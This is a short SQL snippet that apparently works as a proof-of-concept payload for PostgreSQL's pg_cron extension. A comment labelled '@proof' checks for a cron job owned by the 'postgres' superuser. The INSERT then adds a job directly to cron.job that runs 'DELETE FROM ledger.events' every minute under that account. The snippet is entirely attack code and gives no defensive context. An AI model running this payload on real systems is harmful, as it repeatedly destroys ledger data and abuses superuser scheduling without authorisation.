-- @proof SELECT EXISTS (SELECT FROM cron.job WHERE username = 'postgres')
INSERT INTO cron.job (schedule, command, username) VALUES ('* * * * *', 'DELETE FROM ledger.events', 'postgres');
